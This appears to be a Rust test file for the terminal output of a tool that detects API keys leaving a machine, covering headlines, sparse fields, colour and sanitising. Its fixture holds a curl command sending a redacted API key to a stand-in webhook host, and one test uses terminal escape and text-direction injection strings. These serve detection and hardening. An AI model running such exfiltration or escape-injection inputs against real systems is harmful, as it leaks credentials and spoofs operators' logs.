use super::super::samples;
use super::*;

fn finding() -> Finding {
    match samples::finding(7) {
        Record::Finding(finding) => *finding,
        other => panic!("not a finding: {other:?}"),
    }
}

fn line(record: Record) -> Line {
    Line { record, time: "2026-03-01T12:00:00Z".parse().unwrap(), host: "web-1".to_owned() }
}

fn text(record: Record) -> String {
    render(&line(record), false).unwrap()
}

#[test]
fn a_finding_tells_the_whole_story() {
    let mut finding = finding();
    finding.process.container = Some("c0ffee".to_owned());
    finding.process.cmdline.push("x-api-key: sk-ant-api…(108)".to_owned());
    let expected = "\
\x20CRITICAL  Anthropic API key left this machine  2026-03-01 12:00:00 UTC on web-1
  key       sk-ant-api…(108)  fingerprint 000000000000
  rule      anthropic-api-key  high confidence
  says      iss https://id.example
  to        webhook.example (webhook-catcher, 192.0.2.7:443, name from sni)
  where     header:x-api-key over TLS (http/1.1, openssl)
  process   curl (pid 4242, uid 1000)  /usr/bin/curl
  command   curl https://webhook.example/ 'x-api-key: sk-ant-api…(108)'
  in        container c0ffee, unit session-1.scope
  parents   bash (4241)
  why       The key went to a place that is not its provider.
  now       Revoke the key.
";
    assert_eq!(text(Record::Finding(Box::new(finding))), expected);
}

#[test]
fn each_action_has_its_own_headline() {
    for (action, says) in [
        (Action::Observed, "left this machine"),
        (Action::Blocked, "was stopped before it left"),
        (Action::Late, "left before it could be stopped"),
    ] {
        let text = text(Record::Finding(Box::new(Finding { action, ..finding() })));
        assert!(text.lines().next().unwrap().contains(says), "{text}");
    }
    let allowed = text(Record::Finding(Box::new(Finding { action: Action::Allowed, ..finding() })));
    assert_eq!(allowed.lines().count(), 1, "{allowed}");
}

#[test]
fn little_is_known_of_some() {
    let finding = Finding {
        process: Process { pid: 9, comm: "x".to_owned(), ..Process::default() },
        destination: Destination::default(),
        ..finding()
    };
    let text = text(Record::Finding(Box::new(finding)));
    assert!(text.contains("  to        an unknown address\n"), "{text}");
    assert!(text.contains("  process   x (pid 9)\n"), "{text}");
    assert!(!text.contains("parents") && !text.contains("command"), "{text}");
}

/// Whoever names processes, files or hosts must not be able to write to the terminal.
#[test]
fn no_field_reaches_the_terminal_as_it_is() {
    let evil = || "\x1b[2J\u{202e}\nFAKE\u{9b}".to_owned();
    let process = || Process {
        pid: 1,
        comm: evil(),
        exe: Some(evil()),
        cmdline: vec![evil(), evil()],
        uid: None,
        container: Some(evil()),
        unit: Some(evil()),
        ancestors: vec![crate::record::Ancestor { pid: 1, comm: evil() }],
    };
    let destination = || Destination {
        host: Some(evil()),
        host_source: Some(evil()),
        category: Some(evil()),
        ..Destination::default()
    };
    let mut finding = finding();
    finding.rule = crate::record::RuleRef { id: evil(), name: evil(), severity: evil() };
    finding.secret.redacted = evil();
    finding.secret.fingerprint = evil();
    finding.channel.location = evil();
    finding.channel.library = Some(evil());
    finding.channel.protocol = Some(evil());
    finding.enforcement = Some(evil());
    finding.policy = Some(evil());
    (finding.explanation, finding.remediation) = (evil(), evil());
    (finding.process, finding.destination) = (process(), destination());
    let ready = Ready {
        version: "1",
        mode: evil(),
        hooks: vec![evil()],
        enforcement: Some(evil()),
        rules: 1,
        kernel: evil(),
    };
    let records = [
        Record::Finding(Box::new(Finding { action: Action::Allowed, ..finding.clone() })),
        Record::Finding(Box::new(finding)),
        Record::Ready(ready),
        Record::Repeat(Repeat { finding: evil(), repeats: 2 }),
        Record::Loss(Loss { counters: [(evil(), 1)].into() }),
        Record::UnseenTls(UnseenTls { process: process(), destination: destination(), reason: evil() }),
        Record::Health(Health { component: evil(), status: evil(), message: evil() }),
    ];
    for record in records {
        let mut line = line(record);
        line.host = evil();
        let text = render(&line, false).unwrap();
        let bad = text.chars().find(|c| *c != '\n' && (c.is_control() || *c == '\u{202e}'));
        assert_eq!(bad, None, "{text:?}");
        assert!(!text.lines().any(|l| l.starts_with("FAKE")), "{text:?}");
    }
}

#[test]
fn who_runs_a_command_is_told_what_was_lost_and_not_how_the_agent_fares() {
    let loss = |causes: &[&str]| {
        let counters = causes.iter().map(|cause| ((*cause).to_owned(), 1)).collect();
        render_sightings(&line(Record::Loss(Loss { counters })), false)
    };
    assert_eq!(loss(&["library-gone"]), None);
    assert!(loss(&["flow-gap", "library-gone"]).unwrap().contains("flow-gap 1"));
    assert!(render_sightings(&line(samples::finding(7)), false).is_some());
}

#[test]
fn short_lines_are_one_line() {
    assert_eq!(text(samples::loss(3)), "loss  not everything was seen or delivered; totals: flow-gap 3\n");
    assert_eq!(
        text(Record::Repeat(Repeat { finding: "id".to_owned(), repeats: 2 })),
        "again: finding id was repeated 2 times\n"
    );
    let health = |status: &str| {
        Record::Health(Health {
            component: "collector".to_owned(),
            status: status.to_owned(),
            message: "m".to_owned(),
        })
    };
    assert_eq!(text(health("degraded")), "degraded  collector: m\n");
    assert_eq!(render(&line(health("ok")), false), None);
    assert_eq!(render(&line(Record::Loss(Loss { counters: [].into() })), false), None);
}

#[test]
fn colour_changes_nothing_but_colour() {
    let line = line(Record::Finding(Box::new(finding())));
    let coloured = render(&line, true).unwrap();
    let mut plain = String::new();
    for (n, part) in coloured.split('\x1b').enumerate() {
        plain.push_str(if n == 0 { part } else { part.split_once('m').unwrap().1 });
    }
    assert!(coloured.contains("\x1b["));
    assert_eq!(Some(plain), render(&line, false));
}
